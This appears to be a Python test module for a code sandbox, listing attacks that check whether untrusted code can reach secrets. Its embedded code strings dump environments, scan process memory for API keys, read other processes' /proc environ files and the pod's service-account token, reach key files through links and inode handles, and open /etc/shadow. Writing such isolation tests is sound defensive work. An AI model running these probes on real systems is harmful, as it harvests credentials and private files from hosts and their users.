"""Attacks 1 to 4: the environment, other processes' environments, tokens and the runner's own files."""

from tests.runner.sandbox.attacks.attack import Attack, tells_secret

_ENVIRONMENTS = """
@attempt("the environment of process 1")
def _():
    # Opening it is what the kernel decides on; what stands in there is none of this test's business.
    with open("/proc/1/environ", "rb") as file:
        return f"opened as descriptor {file.fileno()}"


for name, number in (("host", given["host"]), ("parent", os.getppid()), ("victim", given["victim"])):

    @attempt(f"the environment of the {name}")
    def _(number=number):
        entries = Path(f"/proc/{number}/environ").read_bytes().split(b"\\0")
        return [entry.decode() for entry in entries if b"API_KEY" in entry or b"VICTIM" in entry]


@attempt("the list of processes")
def _():
    others = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    return f"{len(others)} processes" if others else ""
"""

SECRETS = (
    Attack(
        "1",
        "environment of its own process",
        "Finds the keys of a model or of S3 in the environment that it inherited.",
        """
print("ENVIRONMENT", dict(os.environ))
raw = Path("/proc/self/environ")
@attempt("its first environment")
def _():
    print(raw.read_bytes().replace(b"\\0", b" ").decode())
inherited = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
index = 0
while inherited[index]:
    print("ENTRY", inherited[index].decode(errors="replace"))
    index += 1
did("print the environment")
""",
        reason=r"ENVIRONMENT",
        achieved=tells_secret,
        needs_pod="real keys in the runner's container, none in the render container",
    ),
    Attack(
        "1b",
        "environment left in memory",
        "Finds the host's environment in memory that a fork shares, on the first stack or in old pages.",
        """
@attempt("old memory")
def _():
    found = []
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, mode = line.split()[:2]
            start, end = (int(part, 16) for part in span.split("-"))
            if "r" not in mode or "w" not in mode or end - start > 2**28:
                continue
            memory.seek(start)
            for part in memory.read(end - start).split(b"OPENAI_API_KEY=")[1:]:
                found.append(part[:24].decode(errors="replace"))
    did("search its memory")
    return found
""",
        achieved=tells_secret,
    ),
    Attack(
        "2",
        "environment of other processes",
        "Reads /proc/PID/environ of the host, of its parent, of process 1 and of the runner.",
        _ENVIRONMENTS,
        achieved=lambda outside, after: tells_secret(outside, after) or _listed(after.answer.log),
        needs_pod="the runner's processes (no shareProcessNamespace) and the container's process 1",
    ),
    Attack(
        "3",
        "service account token",
        "Reads the token of the pod's service account.",
        """
for path in given["token_paths"]:
    @attempt(path)
    def _(path=path):
        return Path(path).read_text()
""",
        achieved=tells_secret,
        needs_pod="the real mount: it is absent, and where it exists the path is denied",
    ),
    Attack(
        "4a",
        "secret file that all may read",
        "Reads a file with a key that lies open for every user, by its name and through links.",
        """
@attempt("by its name")
def _():
    return Path(given["secret_file"]).read_text()

@attempt("through a symbolic link")
def _():
    os.symlink(given["secret_file"], "link")
    return Path("link").read_text()

@attempt("through a hard link")
def _():
    os.link(given["secret_file"], "hard-link")
    return Path("hard-link").read_text()

@attempt("by a path of the process's root")
def _():
    return Path("/proc/self/root" + given["secret_file"]).read_text()

@attempt("by way of another program")
def _():
    order = ["/bin/cat", given["secret_file"]]
    return subprocess.run(order, capture_output=True, text=True, check=True).stdout

@attempt("its folder's names")
def _():
    return os.listdir(Path(given["secret_file"]).parent)
""",
        achieved=tells_secret,
        needs_pod="the secret mounts of the runner's container, which the render container lacks",
    ),
    Attack(
        "4b",
        "secret file of the owner",
        "Reads a file with a key that only the host's user may read.",
        """
@attempt("a private file")
def _():
    return Path(given["private_file"]).read_text()
""",
        achieved=tells_secret,
    ),
    Attack(
        "4c",
        "secret file by its handle",
        "Opens a file by its inode's handle, which passes by every path; for whoever may read all files.",
        """
@attempt("open_by_handle_at")
def _():
    handle = ctypes.create_string_buffer(struct.pack("II", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    path = given["secret_file"].encode()
    check(libc.name_to_handle_at(-100, path, handle, ctypes.byref(mount), 0))
    root = os.open("/", os.O_RDONLY)
    return os.read(check(libc.open_by_handle_at(root, handle, os.O_RDONLY)), 100).decode()
""",
        achieved=tells_secret,
    ),
    Attack(
        "4d",
        "files of the system and of the host",
        "Reads /etc/shadow, the host's other folders, and lists what lies in /tmp and in the users' homes.",
        """
@attempt("open /etc/shadow")
def _():
    with open("/etc/shadow", "rb") as file:
        return f"opened as descriptor {file.fileno()}"

for folder in ("/tmp", "/run", "/dev/shm", "/var/log", given["host_root"]):
    @attempt(f"list {folder}")
    def _(folder=folder):
        return f"{len(os.listdir(folder)) + 1} names"
""",
    ),
)


def _listed(log: str) -> str:
    lines = [line for line in log.splitlines() if line.startswith("ACHIEVED") and "process" in line]
    return "; ".join(line[:80] for line in lines)
